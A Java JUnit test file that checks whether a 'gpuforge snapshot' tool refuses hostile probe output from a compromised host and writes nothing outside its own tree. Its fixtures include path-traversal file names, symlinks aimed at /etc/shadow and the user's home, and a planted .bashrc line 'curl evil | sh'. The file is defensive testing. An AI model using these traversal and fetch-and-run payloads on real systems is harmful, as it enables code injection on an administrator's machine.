package io.gpuforge.host.snapshot;

import io.gpuforge.host.HostShell;
import io.gpuforge.host.ProbeException;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * {@code gpuforge snapshot} against a compromised host: whatever names, addresses, paths and links
 * its probe output holds, the snapshot never writes outside its own tree on the admin's machine, and
 * output of an unexpected shape is refused with the line it is on.
 */
class SnapshotHostileOutputTest {

    @TempDir
    Path dir;

    /** The admin's files a hostile host aims at. */
    private Path victim;

    @BeforeEach
    void victim() throws Exception {
        victim = Files.createDirectories(dir.resolve("home/u"));
    }

    /** A host that answers the probe with whatever it likes. */
    private static final class HostilePrinter implements HostShell {
        private final String output;

        HostilePrinter(String output) {
            this.output = output;
        }

        @Override
        public String describe() {
            return "ssh:root@compromised:22";
        }

        @Override
        public Result run(String command, byte[] stdin, Duration timeout) {
            return new Result(0, output.getBytes(StandardCharsets.UTF_8), "");
        }

        @Override
        public void close() {
        }
    }

    /** What an honest host prints (one GPU, its group, its driver link), with {@code extra} records. */
    private static String probeOutput(String extra) {
        return "@@gpuforge-probe 1\n@@meta uid=0 root=/\n@@file /etc/hostname\n|pve1\n@@end\n"
                + "@@exists /sys/kernel/iommu_groups\n"
                + "@@dev 0000:01:00.0\nvendor=0x10de\ndevice=0x2204\nclass=0x030000\n@@end\n"
                + "@@group 11 0000:01:00.0\n"
                + "@@links\n|lrwxrwxrwx 1 root root 0 Dec  1 08:30 /sys/bus/pci/devices/0000:01:00.0/driver ->"
                + " ../../../../../../bus/pci/drivers/nvidia\n@@end\n"
                + extra
                + "@@done\n";
    }

    /** {@code ../} enough times to climb from anywhere in the snapshot's temp tree to /. */
    private static String up() {
        return "../".repeat(40);
    }

    private String rel(Path p) {
        return up() + p.toString().substring(1);
    }

    private List<Path> everythingUnder(Path p) throws Exception {
        List<Path> all = new ArrayList<>();
        try (Stream<Path> w = Files.walk(p)) {
            w.forEach(all::add);
        }
        return all;
    }

    static Stream<Arguments> hostileRecords() {
        return Stream.of(
                Arguments.of("a file outside the paths the probe reads", "@@file VICTIM/.bashrc\n|curl evil | sh\n@@end\n",
                        "@@file VICTIM/.bashrc"),
                Arguments.of("a file path that climbs out", "@@file /etc/../../UP_VICTIM/.bashrc\n|x\n@@end\n",
                        "@@file /etc/../../"),
                Arguments.of("a file under an expected prefix that climbs out", "@@file /etc/modprobe.d/../../UP_VICTIM/x\n"
                        + "|x\n@@end\n", "@@file /etc/modprobe.d/../"),
                Arguments.of("an existence flag outside the paths the probe reads", "@@exists VICTIM/.profile\n",
                        "@@exists VICTIM/.profile"),
                Arguments.of("an existence flag that climbs out", "@@exists /boot/../UP_VICTIM/.profile\n",
                        "@@exists /boot/../"),
                Arguments.of("a device address that is a path", "@@dev UP_VICTIM\nvendor=0x10de\n@@end\n",
                        "@@dev ../../"),
                Arguments.of("a sysfs attribute named by an absolute path", "@@dev 0000:02:00.0\nVICTIM/.bashrc=curl evil\n@@end\n",
                        "VICTIM/.bashrc=curl evil"),
                Arguments.of("a sysfs attribute that climbs out", "@@dev 0000:02:00.0\n../../../../../../x=1\n@@end\n",
                        "../../../../../../x=1"),
                Arguments.of("a group member that climbs out", "@@group 12 0000:02:00.0 UP_VICTIM/evil\n", "@@group 12 "),
                Arguments.of("a group that is not a number", "@@group -3 0000:02:00.0\n", "@@group -3"),
                Arguments.of("a device-mapper device that climbs out", "@@dm UP_VICTIM x\n", "@@dm ../../"),
                Arguments.of("a link at a path the probe does not list", "@@links\n|lrwxrwxrwx 1 root root 0 Dec  1 08:30"
                        + " /etc/cron.d/x -> ../../bus/pci/drivers/nvidia\n@@end\n", "/etc/cron.d/x"),
                Arguments.of("a link pointing outside by an absolute target", "@@links\n|lrwxrwxrwx 1 root root 0 Dec  1 08:30"
                        + " /sys/class/block/sda -> VICTIM\n@@end\n", "/sys/class/block/sda -> "),
                Arguments.of("a link climbing one level above the tree", "@@links\n|lrwxrwxrwx 1 root root 0 Dec  1"
                        + " 08:30 /sys/class/block/sda -> ../../../../etc/shadow\n@@end\n", "/sys/class/block/sda -> "),
                Arguments.of("a driver link that is not a driver", "@@links\n|lrwxrwxrwx 1 root root 0 Dec  1 08:30"
                        + " /sys/bus/pci/devices/0000:01:00.0/iommu_group -> UP_VICTIM\n@@end\n", "/iommu_group -> "),
                Arguments.of("a link that climbs back down through itself", "@@links\n|lrwxrwxrwx 1 root root 0 Dec  1"
                        + " 08:30 /sys/class/block/sda -> ../../devices/x/../../../../UP_VICTIM\n@@end\n", "/sys/class/block/sda"),
                Arguments.of("a link whose path climbs out", "@@links\n|lrwxrwxrwx 1 root root 0 Dec  1 08:30"
                        + " /sys/class/block/../../../UP_VICTIM/x -> ../y\n@@end\n", "/sys/class/block/../"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileRecords")
    void aHostileRecordIsRefusedNamingItsLineAndWritesNothingOutside(String what, String record, String shown)
            throws Exception {
        String text = probeOutput(record.replace("UP_VICTIM", rel(victim)).replace("VICTIM", victim.toString()));
        String marker = shown.replace("VICTIM", victim.toString());
        List<String> lines = List.of(text.split("\n"));
        int line = 1 + lines.indexOf(lines.stream().filter(l -> l.contains(marker)).findFirst().orElseThrow());
        Path archive = dir.resolve("out/snap.tar.gz");
        Files.createDirectories(archive.getParent());

        assertThatThrownBy(() -> Snapshot.capture(new HostilePrinter(text), false, archive))
                .isInstanceOf(ProbeException.class)
                .hasMessageContaining("line " + line + " ")
                .hasMessageContaining(marker);
        assertThat(everythingUnder(victim)).containsExactly(victim);
        assertThat(archive).doesNotExist();
    }

    @Test
    void aLinkPointingOutsideCannotCarryALaterWriteOutside() throws Exception {
        // today's order makes the longer line the earlier link: "a" → the victim, then a/slaves/b beneath it
        String text = probeOutput("@@links\n"
                + "|lrwxrwxrwx 1 root root 0 Dec  1 08:30 /sys/class/block/md0/slaves/sda1 -> ../../sda1\n"
                + "|lrwxrwxrwx 1 root root 0 Dec  1 08:30 /sys/class/block/md0 -> " + rel(victim) + "/./././././././.\n"
                + "@@end\n");
        Path archive = dir.resolve("snap.tar.gz");
        assertThatThrownBy(() -> Snapshot.capture(new HostilePrinter(text), false, archive))
                .isInstanceOf(ProbeException.class).hasMessageContaining("/sys/class/block/md0 ->");
        assertThat(everythingUnder(victim)).containsExactly(victim);
    }

    @Test
    void anHonestHostsDeepLinksStayInsideTheTree() throws Exception {
        // a GPU behind a PCIe switch: its driver link climbs six levels on the host (from
        // /sys/devices/pci0000:00/B1/B2/B3/X), more than the snapshot's /sys/bus/pci/devices/X has; the
        // snapshot keeps the link the host means, /sys/bus/pci/drivers/nvidia
        Path archive = dir.resolve("honest.tar.gz");
        Snapshot.capture(new HostilePrinter(probeOutput("")), false, archive);
        Path tree = Snapshot.unpack(archive);
        try {
            Path driver = tree.resolve("sys/bus/pci/devices/0000:01:00.0/driver");
            assertThat(Files.isSymbolicLink(driver)).isTrue();
            assertThat(Files.readSymbolicLink(driver).toString()).isEqualTo("../../../../bus/pci/drivers/nvidia");
            assertThat(driver.getParent().resolve(Files.readSymbolicLink(driver)).normalize())
                    .isEqualTo(tree.resolve("sys/bus/pci/drivers/nvidia"));
            Path member = tree.resolve("sys/kernel/iommu_groups/11/devices/0000:01:00.0");
            assertThat(member.toRealPath()).isEqualTo(tree.resolve("sys/bus/pci/devices/0000:01:00.0").toRealPath());
            assertThat(Files.readString(tree.resolve("sys/bus/pci/devices/0000:01:00.0/vendor"))).isEqualTo("0x10de\n");
            assertThat(Files.exists(tree.resolve("sys/kernel/iommu_groups"), LinkOption.NOFOLLOW_LINKS)).isTrue();
        } finally {
            Snapshot.deleteTree(tree);
        }
    }
}
